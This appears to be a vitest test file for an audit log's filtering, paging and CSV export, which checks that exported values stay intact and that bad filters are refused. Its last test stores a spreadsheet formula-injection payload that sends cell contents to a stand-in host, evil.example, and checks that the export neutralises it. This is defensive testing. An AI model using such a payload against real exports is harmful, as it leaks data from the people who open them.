// The audit log page's data: filters, paging, CSV.
import { parse } from "csv-parse/sync";
import { beforeAll, expect, it } from "vitest";
import { recordAuditEvent } from "../../server/audit/audit";
import { auditEventsCsv, auditFilterSchema, listAuditEvents } from "../../server/audit/queries";
import { db } from "../../server/db";
import { makeUser } from "../support/callers";

let admin: { id: string; email: string };
beforeAll(async () => {
  admin = await makeUser("admin");
  for (let i = 0; i < 3; i++) await recordAuditEvent(db, { actorId: admin.id, action: "user.role_change", subjectType: "user", subjectId: `u${i}`, payload: { note: `a "quoted", comma ${i}` } });
  await recordAuditEvent(db, { actorId: null, action: "search.rebuild" });
});

const list = (filter: Record<string, unknown>) => listAuditEvents(db, auditFilterSchema.parse(filter));

it("filters by actor, action, subject and time", async () => {
  expect((await list({ action: "user.role_change" })).total).toBe(3);
  expect((await list({ actor: admin.email.slice(0, 8).toUpperCase() })).events.every((e) => e.actor?.email === admin.email)).toBe(true);
  expect((await list({ subjectType: "user", subjectId: "u1" })).events.map((e) => e.subjectId)).toEqual(["u1"]);
  const today = new Date().toISOString().slice(0, 10);
  expect((await list({ from: today, to: today })).total).toBeGreaterThanOrEqual(4);
  expect((await list({ to: "2000-01-01" })).total).toBe(0);
  const page = await list({ pageSize: 2, page: 2 });
  expect(page.events).toHaveLength(2);
});

it("exports CSV that a CSV reader reads back, quotes and commas intact", async () => {
  const csv = await auditEventsCsv(db, auditFilterSchema.parse({ action: "user.role_change" }));
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(3);
  expect(rows[0]).toMatchObject({ actor: admin.email, action: "user.role_change", subject_type: "user" });
  expect(JSON.parse(rows.find((r) => r.subject_id === "u2")!.details!)).toEqual({ note: 'a "quoted", comma 2' });
});

it("refuses a bad filter at the boundary", () => {
  expect(auditFilterSchema.safeParse({ action: "drop table" }).success).toBe(false);
  expect(auditFilterSchema.safeParse({ from: "yesterday" }).success).toBe(false);
});

it("exports what anyone could have written (an email typed at sign-in) as text a spreadsheet never runs", async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  await recordAuditEvent(db, { action: "auth.sign_in_failed", subjectType: "email", subjectId: formula, payload: { reason: "unknown_email" }, ip: "@SUM(1)" });
  const rows = parse(await auditEventsCsv(db, auditFilterSchema.parse({ action: "auth.sign_in_failed" })), { columns: true }) as Record<string, string>[];
  const row = rows.find((r) => r.subject_id!.includes("HYPERLINK"))!;
  expect(row.subject_id).toBe(`'${formula}`);
  expect(row.ip).toBe("'@SUM(1)");
});
